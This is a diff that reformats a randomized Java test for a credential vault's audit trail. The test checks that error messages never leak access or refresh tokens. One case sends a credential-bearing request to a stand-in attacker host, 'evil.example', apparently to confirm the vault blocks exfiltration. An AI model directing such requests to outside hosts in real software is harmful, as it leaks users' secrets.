@@ -149,18 +149,21 @@ class AuditTrailTest {
                 switch (random.nextInt(8)) {
                     case 0 -> world.connect(who);
                     case 1 -> vault.use(who, NEED, secret -> "used");
-                    case 2 -> vault.use(who, NEED, secret -> {
-                        throw new IllegalStateException("the host failed");
-                    });
+                    case 2 ->
+                        vault.use(who, NEED, secret -> {
+                            throw new IllegalStateException("the host failed");
+                        });
                     case 3 -> vault.send(who, OutboundRequest.get(NEED, Tools.API));
                     case 4 -> vault.send(who, OutboundRequest.get(NEED, "https://evil.example/"));
                     case 5 -> runner.call(who, Tools.call("c" + number));
-                    case 6 -> world.provider.nextToken(random.nextBoolean() ? 503 : 400, "{\"error\":\"invalid_grant\"}");
-                    default -> vault.credentials().list(who, Optional.empty(), 10).forEach(c -> {
-                        if (random.nextInt(4) == 0) {
-                            vault.revoke(who, c.id());
-                        }
-                    });
+                    case 6 ->
+                        world.provider.nextToken(random.nextBoolean() ? 503 : 400, "{\"error\":\"invalid_grant\"}");
+                    default ->
+                        vault.credentials().list(who, Optional.empty(), 10).forEach(c -> {
+                            if (random.nextInt(4) == 0) {
+                                vault.revoke(who, c.id());
+                            }
+                        });
                 }
             } catch (VaultException | IllegalStateException | AssertionError e) {
                 assertThat(String.valueOf(e.getMessage())).doesNotContain("at-", "rt-");
